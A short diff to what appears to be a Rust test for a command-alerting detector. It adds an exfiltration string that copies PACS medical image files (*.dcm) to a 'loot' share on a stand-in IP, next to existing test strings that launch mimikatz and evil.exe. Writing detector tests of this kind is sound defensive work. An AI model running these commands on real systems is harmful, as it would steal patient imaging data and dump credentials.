@@ -857,6 +857,7 @@ fn report_comments_alert_for_what_cmd_acts_on_and_not_for_prose() {
         "at 23:00 mimikatz",
         "at 3:00PM C:\\x\\evil.exe",
         "start mimikatz",
+        "set s=\\\\198.51.100.7\\loot\r\ncopy C:\\PACS\\*.dcm %s%",
         "evil.msc",
         "evil.com",
     ];
